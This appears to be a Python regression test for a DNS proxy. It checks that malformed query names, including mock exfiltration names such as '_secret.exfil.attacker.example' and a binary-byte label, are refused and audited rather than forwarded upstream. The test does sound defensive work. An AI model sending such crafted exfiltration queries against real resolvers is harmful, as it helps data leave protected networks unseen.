# what: DNS exfiltration in names that are no host names (binary bytes, an underscore label, below the attacker's name and below an allowed one): refused, each audited as asked
# expect-denied: \000\001\255\.\032.exfil.attacker.example 53 dns invalid_host
# expect-denied: _secret.exfil.attacker.example 53 dns invalid_host
# expect-denied: _dmarc.allowed.test 53 dns invalid_host
# expect-stdout: DONE 3 blocked
# Names proxyd cannot canonicalise never go upstream either. Each distinct
# one is its own event with the name escaped as asked (a regression check:
# they were all audited with an empty host, so proxyd's dedupe folded
# every such attempt in a 2 s window into one). Questions that do not even
# parse (a 64-byte label, a 254-byte name) are FORMERR, audited as
# bad_request with an empty host, which this format cannot name:
# hostile-flood.sh checks those.
import socket
import struct

SUFFIX = b"\x05exfil\x08attacker\x07example\x00"
A_IN = struct.pack(">HH", 1, 1)


def ask(what, qname, want):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.sendto(struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qname + A_IN,
                 ("198.18.0.2", 53))
        r, _ = s.recvfrom(65535)
    except OSError as e:
        print("LEAK? no answer to", what, e)
        return 0
    finally:
        s.close()
    rcode, an = r[3] & 0xF, struct.unpack(">H", r[6:8])[0]
    if rcode == want and an == 0:
        print("BLOCKED", what, "rcode", rcode)
        return 1
    print("LEAK", what, "rcode", rcode, "answers", an)
    return 0


n = 0
n += ask("binary label", b"\x05\x00\x01\xff.\x20" + SUFFIX, 3)
n += ask("underscore label", b"\x07_secret" + SUFFIX, 3)
# Invalid below an allowed name is still refused, not asked upstream.
n += ask("underscore below an allowed name", b"\x06_dmarc\x07allowed\x04test\x00", 3)
print("DONE", n, "blocked")
